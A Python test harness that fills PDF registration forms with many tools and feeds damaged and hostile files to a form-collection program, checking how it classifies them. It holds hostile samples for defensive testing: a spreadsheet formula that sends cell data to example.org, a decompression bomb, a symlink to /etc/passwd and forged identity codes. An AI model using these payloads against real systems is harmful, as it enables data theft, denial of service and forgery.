"""Collects forms as all kinds of programs return them, and damaged and hostile files, and compares what comes of each.

Usage: returns.py CONVOKE MAILING-FOLDER (a copy: it is built in)
"""

import json
import os
import re
import shutil
import subprocess
import sys
import zlib
from pathlib import Path

import pikepdf
import pymupdf
import pypdf
from PIL import Image
from pikepdf import Dictionary, Name, String

# What everybody answers, unless something else is said.
ANSWERS = {
    "participant.1.title": "ms",
    "participant.1.family_name": "Ørsted",
    "participant.1.first_name": "Zoë",
    "participant.1.function": "Minister, “ICT”",
    "participant.1.role": "head",
    "participant.1.e_mail": "zoe@example.org",
    "participant.1.arrival": "2004-06-23",
    "participant.1.day.1": True,
}
HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"x")'

convoke, mailing = sys.argv[1], Path(sys.argv[2])
returns = mailing / "returns"
returns.mkdir()
# By file: status, recipient, version, and values or names of fields in question.
expected = {}


def run(*command, **options):
    return subprocess.run([str(part) for part in command], check=True, capture_output=True, **options)


def build(folder):
    run(convoke, "-C", folder, "build")
    reference = next(line.split(":", 1)[1].strip() for line in (folder / "mailing.yaml").read_text().splitlines() if line.startswith("reference:"))
    return folder / "output" / reference.replace("/", "_")


def form_of(archive, iso):
    return next(archive.glob(f"*/forms/*_{iso}_form_*.pdf"))


def expect(name, status, recipient=None, version=None, values=None, problems=(), participants=1):
    expected[name] = dict(status=status, recipient=recipient, version=version, values=values, problems=set(problems), participants=participants)
    return returns / name


def matched(name, recipient, values=None, version="counts", problems=(), participants=1, status="matched"):
    values = {**plain(ANSWERS), **(values or {})}
    return expect(name, status, recipient, version, values, problems, participants)


def plain(answers):
    return {re.sub(r"^participant\.1\.", "", key): "true" if value is True else value for key, value in answers.items()}


def with_pypdf(form, to, answers=ANSWERS, incremental=False, regenerate=False, **options):
    writer = pypdf.PdfWriter(form, incremental=incremental)
    values = {}
    for name, value in answers.items():
        values[name] = "/Yes" if value is True else "/" + value if name.rsplit(".", 1)[-1] in ("title", "role", "language") and name.startswith("participant") else value
    for page in writer.pages:
        writer.update_page_form_field_values(page, values, auto_regenerate=regenerate)
    if options.get("compress"):
        writer.compress_identical_objects()
    writer.write(to)


def pike_fields(pdf):
    found = {}

    def walk(field, above):
        name = ".".join(filter(None, [above, str(field.get("/T", ""))]))
        kids = [kid for kid in field.get("/Kids", []) if "/T" in kid]
        if kids:
            for kid in kids:
                walk(kid, name)
        else:
            found[name] = field

    for field in pdf.Root.AcroForm.Fields:
        walk(field, "")
    return found


def set_pike(pdf, answers):
    fields = pike_fields(pdf)
    for name, value in answers.items():
        field = fields[name]
        widgets = list(field.get("/Kids", [field]))
        if field.get("/FT") == Name.Btn:
            state = Name.Yes if value is True else Name("/" + value)
            field.V = state
            for widget in widgets:
                widget.AS = state if state in widget.AP.N.keys() else Name.Off
        else:
            field.V = String(value)


def with_pikepdf(form, to, answers=ANSWERS, date=None, change=None, **save):
    with pikepdf.open(form) as pdf:
        set_pike(pdf, answers)
        if date:
            pdf.docinfo["/ModDate"] = String(date)
            with pdf.open_metadata(set_pikepdf_as_editor=False, update_docinfo=False) as metadata:
                metadata["xmp:ModifyDate"] = re.sub(r"D:(....)(..)(..)(..)(..)(..)Z", r"\1-\2-\3T\4:\5:\6Z", date)
        if change:
            change(pdf)
        pdf.save(to, **save)


def xfdf(answers):
    lines = []
    for name, value in answers.items():
        value = "Yes" if value is True else value.replace("&", "&amp;").replace("<", "&lt;")
        lines.append(f'<field name="{name}"><value>{value}</value></field>')
    return '<?xml version="1.0" encoding="UTF-8"?><xfdf xmlns="http://ns.adobe.com/xfdf/"><fields>' + "".join(lines) + "</fields></xfdf>"


def with_pdftk(form, to, *options):
    data = mailing / "data.xfdf"
    data.write_text(xfdf(ANSWERS))
    run("pdftk", form, "fill_form", data, "output", to, *options)


def as_acrobat(form, to):
    """Appends what changed with a cross-reference stream and an object stream, as Acrobat does."""
    base = form.read_bytes()
    with pikepdf.open(form) as pdf:
        size = int(pdf.trailer.Size)
        root = pdf.Root.objgen[0]
        info = pdf.trailer.Info.objgen[0]
        set_pike(pdf, ANSWERS)
        pdf.docinfo["/ModDate"] = String("D:20040602120000+02'00'")
        changed = {info: pdf.docinfo}
        for name in ANSWERS:
            field = pike_fields(pdf)[name]
            for it in [field, *field.get("/Kids", [])]:
                changed[it.objgen[0]] = it
        numbers = sorted(changed)
        texts = [changed[number].unparse(resolved=True) for number in numbers]
    offsets, body = [], b""
    for text in texts:
        offsets.append(len(body))
        body += text + b" "
    head = " ".join(f"{number} {offset}" for number, offset in zip(numbers, offsets)).encode() + b" "
    packed = zlib.compress(head + body)
    stream = b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream\nendobj\n" % (size, len(numbers), len(head), len(packed), packed)
    at = len(base) + 1
    table_at = at + len(stream)
    rows = {number: bytes([2]) + size.to_bytes(4, "big") + index.to_bytes(2, "big") for index, number in enumerate(numbers)}
    rows[size] = bytes([1]) + at.to_bytes(4, "big") + bytes(2)
    rows[size + 1] = bytes([1]) + table_at.to_bytes(4, "big") + bytes(2)
    index = " ".join(f"{number} 1" for number in sorted(rows))
    packed = zlib.compress(b"".join(rows[number] for number in sorted(rows)))
    before = re.findall(rb"startxref\s+(\d+)", base)[-1].decode()
    table = f"{size + 1} 0 obj\n<</Type/XRef/Size {size + 2}/W[1 4 2]/Index[{index}]/Root {root} 0 R/Info {info} 0 R/Prev {before}/Length {len(packed)}/Filter/FlateDecode>>\nstream\n".encode() + packed + b"\nendstream\nendobj\n"
    to.write_bytes(base + b"\n" + stream + table + f"startxref\n{table_at}\n%%EOF\n".encode())


def as_preview(pdf):
    """What Preview leaves of a form: fields and what they show, without structure, metadata and private entries."""
    for key in ("/StructTreeRoot", "/Metadata", "/MarkInfo", "/OutputIntents", "/ViewerPreferences"):
        if key in pdf.Root:
            del pdf.Root[key]
    for field in pike_fields(pdf).values():
        if "/XXConvoke" in field:
            del field["/XXConvoke"]
    del pdf.Root.AcroForm["/DR"]
    pdf.docinfo["/Producer"] = String("macOS Version 15 (Build 24A) Quartz PDFContext")
    pdf.docinfo["/ModDate"] = String("D:20040603080000Z00'00'")


def widgets_only(pdf):
    """Empties the form's list of fields: only the pages know them."""
    pdf.Root.AcroForm.Fields = pikepdf.Array()


def without_barcode(pdf):
    for page in pdf.pages:
        for key in [key for key, it in page.Resources.get("/XObject", {}).items() if it.get("/Subtype") == Name.Image]:
            del page.Resources.XObject[key]


def without_identity(pdf):
    fields = pdf.Root.AcroForm.Fields
    kept = [field for field in fields if str(field.get("/T", "")) != "convoke"]
    pdf.Root.AcroForm.Fields = pikepdf.Array(kept)
    for page in pdf.pages:
        page.Annots = pikepdf.Array([it for it in page.Annots if str(it.get("/T", "")) != "identity"])
    # Nor may the barcode tell.
    without_barcode(pdf)


def tampered_identity(pdf):
    field = pike_fields(pdf)["convoke.identity"]
    field.V = String(str(field.V).replace("*PER*", "*PHL*"))


def check_digits(text):
    """Those of ISO 7064 MOD 97-10 over the bytes, as anybody can compute them."""
    remainder = 0
    for byte in text.encode():
        remainder = (remainder * 256 + byte) % 97
    return 98 - remainder * 100 % 97


def carried(form):
    with pikepdf.open(form) as pdf:
        return str(pike_fields(pdf)["convoke.identity"].V)


def forgeries(archive):
    """Forms of one ministry that claim to be another's, dated in the far future so as to be the latest."""
    _, *parts, tag, _ = carried(form_of(archive, "URY")).split("*")
    own_tag = carried(form_of(archive, "FRA")).split("*")[-2]

    def forge(name, status, identity, values=None, version=None, barcode=False):
        def change(pdf):
            pike_fields(pdf)["convoke.identity"].V = String(identity)
            if not barcode:
                without_barcode(pdf)

        # FRA's form names its State, and the country that it has for its second participant is not the one that URY's was sent with.
        asked = {f"participant.2.{name}" for name in ("family_name", "first_name", "function", "role", "e_mail")}
        problems, participants = (set(), 0) if values is None else (asked | {"entity.name"}, 2)
        expect(name, status, "URY", version, values, problems, participants)
        with_pikepdf(form_of(archive, "FRA"), returns / name, date="D:20381231235959Z", change=change)

    def write(mark, parts, *tag):
        text = "*".join([mark, *parts, *tag])
        return f"{text}*{check_digits(text):02}"

    genuine = form_of(archive, "URY")
    with_pikepdf(genuine, matched("genuine.pdf", "URY"), {**ANSWERS, "participant.1.hotel": "Genuine"}, "D:20040601090000Z")
    forge("forged-own-hash.pdf", "forged", write("CVK2", parts, own_tag))
    forge("forged-guessed.pdf", "forged", write("CVK2", parts, "A" * len(tag)))
    # All that is known of a form but the hash, in the way of earlier versions.
    earlier = [*parts[:-1], parts[-1].lower()]
    values = {"family_name": ANSWERS["participant.1.family_name"]}
    forge("forged-earlier.pdf", "unverified", write("CVK1", earlier), values, "unverified")
    # Whoever holds the form itself can answer; it does not go unseen.
    forge("replayed-field.pdf", "forged", carried(genuine), barcode=True)
    forge("replayed.pdf", "matched", carried(genuine), values, "undated")


def cyclic(pdf):
    fields = pike_fields(pdf)
    one = fields["participant.1.hotel"]
    one.Kids = pikepdf.Array([one, pdf.Root.AcroForm.Fields[1]])
    one.Parent = one


def main():
    archive = build(mailing)
    # Plain programs, each for a ministry of its own.
    with_pypdf(form_of(archive, "AUT"), matched("pypdf.pdf", "AUT", version="same"))
    with_pypdf(form_of(archive, "BEL"), matched("pypdf-regenerate.pdf", "BEL"), regenerate=True)
    with_pypdf(form_of(archive, "CHE"), matched("pypdf-incremental.pdf", "CHE"), incremental=True)
    with_pypdf(form_of(archive, "BRA"), matched("pypdf-compressed.pdf", "BRA"), compress=True)
    with_pikepdf(form_of(archive, "CAN"), matched("pikepdf.pdf", "CAN"))
    with_pikepdf(form_of(archive, "CHL"), matched("pikepdf-object-streams.pdf", "CHL"), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    with_pikepdf(form_of(archive, "CIV"), matched("pikepdf-linear.pdf", "CIV"), linearize=True)
    with_pikepdf(form_of(archive, "DNK"), matched("preview.pdf", "DNK"), change=as_preview)
    as_acrobat(form_of(archive, "EGY"), matched("acrobat.pdf", "EGY"))
    with_pikepdf(form_of(archive, "ESP"), matched("pages-only.pdf", "ESP"), change=widgets_only)
    with_pdftk(form_of(archive, "FIN"), matched("pdftk.pdf", "FIN"))
    with_pdftk(form_of(archive, "FRA"), matched("pdftk-need.pdf", "FRA"), "need_appearances")
    filled = mailing / "filled.pdf"
    for number, (name, options) in enumerate({
        "qpdf.pdf": [],
        "qpdf-streams.pdf": ["--object-streams=generate", "--compress-streams=y"],
        "qpdf-qdf.pdf": ["--qdf"],
        "qpdf-linear.pdf": ["--linearize"],
        "encrypted-40.pdf": ["--allow-weak-crypto", "--encrypt", "", "owner", "40", "--"],
        "encrypted-128.pdf": ["--allow-weak-crypto", "--encrypt", "", "owner", "128", "--use-aes=n", "--"],
        "encrypted-aes.pdf": ["--encrypt", "", "owner", "128", "--use-aes=y", "--"],
        "encrypted-256.pdf": ["--object-streams=generate", "--encrypt", "", "owner", "256", "--"],
    }.items()):
        iso = ["GBR", "GEO", "GRC", "HUN", "IDN", "IND", "IRL", "ISL"][number]
        with_pypdf(form_of(archive, iso), filled)
        run("qpdf", filled, *options, matched(name, iso))
    with_pypdf(form_of(archive, "ITA"), filled)
    run("mutool", "clean", "-gggg", "-z", filled, matched("mutool.pdf", "ITA"))
    with pymupdf.open(form_of(archive, "JPN")) as document:
        for page in document:
            for widget in page.widgets():
                if widget.field_name == "participant.1.family_name":
                    widget.field_value = "山田"
                    widget.update()
        needed = {f"participant.1.{name}" for name in ("first_name", "function", "role", "e_mail")}
        document.save(expect("pymupdf.pdf", "matched", "JPN", "counts", {"family_name": "山田"}, needed))
    data = mailing / "answers.json"
    data.write_text(json.dumps({**ANSWERS, "delegation.1.family_name": "ØRSTED", "delegation.1.first_name": "Zoë", "delegation.2.family_name": "Aalto"}))
    run(convoke, "form", "fill", form_of(archive, "KEN"), data, "--output", matched("keyed in.pdf", "KEN", participants=2))
    (returns / "later").mkdir()
    shutil.copy(returns / "pypdf.pdf", matched("later/renamed-from-AUT.pdf", "AUT"))

    # Several from one ministry.
    for name, date, version in [("a", "20040601090000", "earlier"), ("b", "20040604090000", "counts"), ("c", "20040603235959", "earlier")]:
        changed = {**ANSWERS, "participant.1.hotel": name}
        with_pikepdf(form_of(archive, "KOR"), matched(f"versions-{name}.pdf", "KOR", {"hotel": name}, version), changed, f"D:{date}Z")
    for name in "ab":
        changed = {**ANSWERS, "participant.1.hotel": name}
        with_pikepdf(form_of(archive, "LUX"), matched(f"tie-{name}.pdf", "LUX", {"hotel": name}, "tie"), changed)

    # Values that do not fit, and that would do harm.
    wrong = {
        **ANSWERS,
        "participant.1.arrival": "3/4/2004",
        "participant.1.departure": "26.06.2004",
        "participant.1.e_mail": "zoe at example",
        "participant.1.visa.birth_date": "secret date",
        "participant.1.role": "king",
    }
    problems = {f"participant.1.{name}" for name in ("arrival", "e_mail", "visa.birth_date", "role")}
    values = {"departure": "2004-06-26", "arrival": "3/4/2004", "e_mail": "zoe at example", "visa.birth_date": "secret date", "role": "king"}
    with_pikepdf(form_of(archive, "MEX"), matched("wrong-values.pdf", "MEX", values, problems=problems), wrong)
    hostile = {**ANSWERS, "participant.1.hotel": HOSTILE, "participant.1.first_name": "#panic() *x* <b>&amp;</b>", "participant.1.function": "@SUM(1)\x07\u202e"}
    values = {"hotel": HOSTILE, "first_name": "#panic() *x* <b>&amp;</b>", "function": "@SUM(1)"}
    with_pikepdf(form_of(archive, "NLD"), matched("hostile.pdf", "NLD", values, problems={"participant.1.first_name"}), hostile)
    large = "A" * 1_000_000
    with_pikepdf(form_of(archive, "NOR"), matched("megabyte.pdf", "NOR", {"accessibility": large[:32767]}, problems={"participant.1.accessibility"}), {**ANSWERS, "participant.1.accessibility": large})
    with_pikepdf(form_of(archive, "POL"), matched("cyclic.pdf", "POL"), change=cyclic)
    shutil.copy(form_of(archive, "PRT"), expect("blank.pdf", "matched", "PRT", "counts", {}, participants=0))
    missing = {"participant.1.family_name": "Ørsted"}
    needed = {f"participant.1.{name}" for name in ("first_name", "function", "role", "e_mail")}
    with_pikepdf(form_of(archive, "QAT"), expect("missing.pdf", "matched", "QAT", "counts", {"family_name": "Ørsted"}, needed), missing)

    # Not of this mailing, or not known.
    other = mailing / "other"
    shutil.copytree(mailing, other, ignore=shutil.ignore_patterns("returns", "output", "other"))
    text = (other / "mailing.yaml").read_text()
    (other / "mailing.yaml").write_text(text.replace("reference: DM-1132", "reference: DM-2001"))
    # Nor does it have the key of this one: it makes its own.
    for name in ("register.yaml", "register.key"):
        (other / name).unlink()
    with_pypdf(form_of(build(other), "FRA"), expect("other-mailing.pdf", "other-mailing", "FRA"))
    layout = (other / "templates/layout.typ").read_text()
    (other / "mailing.yaml").write_text(text)
    for name in ("register.yaml", "register.key"):
        shutil.copy(mailing / name, other / name)
    (other / "templates/layout.typ").write_text(layout.replace("line-height = 6mm", "line-height = 6.1mm"))
    with_pypdf(form_of(build(other), "ROU"), matched("old-version.pdf", "ROU", status="old-version"))
    listed = (other / "recipients/ministries.yaml").read_text()
    (other / "recipients/ministries.yaml").write_text(listed.replace("- id: SVK\n", "- id: SVK-OLD\n"))
    with_pypdf(form_of(build(other), "SVK-OLD"), expect("unknown.pdf", "unknown-recipient", "SVK-OLD"))
    with_pikepdf(form_of(archive, "PER"), expect("tampered.pdf", "forged"), change=tampered_identity)
    with_pikepdf(form_of(archive, "PAK"), expect("no-identity.pdf", "no-identity"), change=without_identity)

    forgeries(archive)

    # For manual entry.
    with_pdftk(form_of(archive, "SWE"), expect("pdftk-flattened.pdf", "flattened", "SWE"), "flatten")
    run("soffice", "--headless", "--convert-to", "pdf", "--outdir", mailing / "office", filled)
    shutil.copy(mailing / "office/filled.pdf", expect("libreoffice.pdf", "flattened", "ITA"))
    run("pdftoppm", "-r", "200", "-gray", "-png", "-f", "1", "-l", "1", returns / "pypdf.pdf", mailing / "scan")
    scan = Image.open(next(mailing.glob("scan-*.png")))
    scan.rotate(0.8, fillcolor=255).save(expect("scanned.pdf", "scanned", "AUT"), resolution=200)
    scan.save(expect("scanned.jpg", "scanned", "AUT"))
    Image.new("L", (1200, 1700), 230).save(expect("fax-of-nothing.pdf", "scanned"), resolution=150)
    with_pypdf(form_of(archive, "THA"), filled)
    run("qpdf", "--encrypt", "user", "owner", "256", "--", filled, expect("password.pdf", "password"))

    # Damaged, and made to do harm.
    whole = (returns / "pypdf.pdf").read_bytes()
    expect("cut.pdf", "damaged").write_bytes(whole[: len(whole) // 3])
    expect("empty.pdf", "not-pdf").write_bytes(b"")
    expect("page.html", "not-pdf").write_text("<!DOCTYPE html><title>404</title>")
    expect("noise.pdf", "damaged").write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 400 + b"startxref")
    with_pypdf(form_of(archive, "TUR"), filled)
    shifted = filled.read_bytes().replace(b"startxref\n", b"startxref\n9", 1)
    matched("wrong-table.pdf", "TUR").write_bytes(shifted)
    bomb = zlib.compress(bytes(100_000_000), 9)
    expect("bomb.pdf", "too-large").write_bytes(b"%%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>\nstream\n" % len(bomb) + bomb + b"\nendstream\nendobj\nstartxref\n9\n%%EOF")
    expect("deep.pdf", "damaged").write_bytes(b"%PDF-1.7\n1 0 obj\n" + b"[" * 500_000 + b"\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF")
    hidden = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/Y/LZWDecode>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R>>\nendobj\n4 0 obj\n"
    expect("deep-hidden.pdf", "scanned").write_bytes(hidden + b"[" * 500_000 + b"\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF")
    nested = b"[(])" * 2_000_000 + b"]" * 2_000_000
    expect("nested-strings.pdf", "damaged").write_bytes(b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields " + nested + b">>>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R>>\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF")
    dashes = b"[0.0000001 0.0000001] 0 d 10 w 0 0 m 600 800 l S"
    expect("dashes.pdf", "damaged").write_bytes(b"%%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>\nendobj\n4 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%%%EOF" % (len(dashes), dashes))
    expect("huge.pdf", "too-large").write_bytes(b"%PDF-1.7\n" + bytes(33 << 20))
    os.symlink("/etc/passwd", expect("link.pdf", "unreadable"))

    before = {path: path.stat().st_mtime_ns for path in sorted(returns.rglob("*"))}
    memory = mailing / "memory"
    done = subprocess.run(["/usr/bin/env", "bash", "-c", 'ulimit -v 4000000; "$@"', "-", convoke, "-C", str(mailing), "collect", str(returns), "--now", "2004-06-05"], capture_output=True, text=True)
    print(done.stdout, done.stderr if done.returncode != 3 else "")
    faults = [] if done.returncode == 3 else [f"exit code {done.returncode}"]
    if before != {path: path.stat().st_mtime_ns for path in sorted(returns.rglob("*"))}:
        faults.append("a returned file was changed")
    if "secret date" in done.stdout + done.stderr:
        faults.append("a personal value was printed")
    folder = archive.parent / f"{archive.name}-registrations"
    table = json.loads((folder / "registrations.json").read_text())
    for name in ("csv", "xlsx", "json"):
        if (folder / f"registrations.{name}").stat().st_mode & 0o777 != 0o600:
            faults.append(f"others can read registrations.{name}")
    seen = {name: found["differs_from"] for name, found in ((file["file"].rsplit("/", 1)[-1], file) for file in table["files"]) if "differs_from" in found}
    for name, other in [("genuine.pdf", "replayed.pdf"), ("replayed.pdf", "genuine.pdf"), ("forged-earlier.pdf", "genuine.pdf")]:
        if not any(path.endswith(other) for path in seen.get(name, [])):
            faults.append(f"{name} does not name {other}")
    csv = (folder / "registrations.csv").read_text("utf-8-sig")
    if re.search(r'(^|,)"?[=@]', csv, re.M):
        faults.append("a cell of the CSV is a formula")
    found = {Path(file["file"]).relative_to(returns).as_posix(): (number, file) for number, file in enumerate(table["files"])}
    if set(found) != set(expected):
        faults.append(f"lines for {sorted(set(found) ^ set(expected))}")
    for name, wanted in expected.items():
        number, file = found.get(name, (None, {}))
        named = {problem["field"] for problem in file.get("problems", [])}
        is_like = {
            "status": file.get("status"),
            "recipient": file.get("recipient"),
            "version": file.get("version"),
            "problems": named,
            "participants": file.get("participants") if wanted["values"] is not None else wanted["participants"],
        }
        for key, value in is_like.items():
            if value != wanted[key]:
                faults.append(f"{name}: {key} is {value!r}, expected {wanted[key]!r} ({file.get('remark')})")
        rows = [row for row in table["registrations"] if row["file"] == number]
        if (wanted["values"] is None) != (not rows):
            faults.append(f"{name}: {len(rows)} rows")
        for column, value in (wanted["values"] or {}).items():
            if rows and rows[0]["values"].get(column) != value:
                faults.append(f"{name}: {column} is {str(rows[0]['values'].get(column))[:60]!r}, expected {value[:60]!r}")
    print(f"{len(expected)} returned files")
    print("\n".join(faults) or "each is what it is taken for, and every value is there")
    sys.exit(bool(faults))


main()
